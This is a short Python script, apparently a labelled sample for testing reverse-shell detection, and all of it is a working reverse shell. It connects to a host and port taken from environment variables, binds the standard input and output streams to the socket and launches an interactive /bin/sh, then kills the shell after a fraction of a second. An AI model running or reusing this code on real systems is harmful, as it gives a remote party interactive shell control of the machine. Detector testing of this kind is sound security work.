# flagged: dash
import os
import signal
import socket
import time

connection = socket.create_connection((os.environ["RG_TCP_HOST"], int(os.environ["RG_TCP_PORT"])))
shell = os.fork()
if shell == 0:
    for number in range(3):
        os.dup2(connection.fileno(), number)
    os.execl("/bin/sh", "sh", "-i")
time.sleep(0.12)
os.kill(shell, signal.SIGKILL)
os.waitpid(shell, 0)
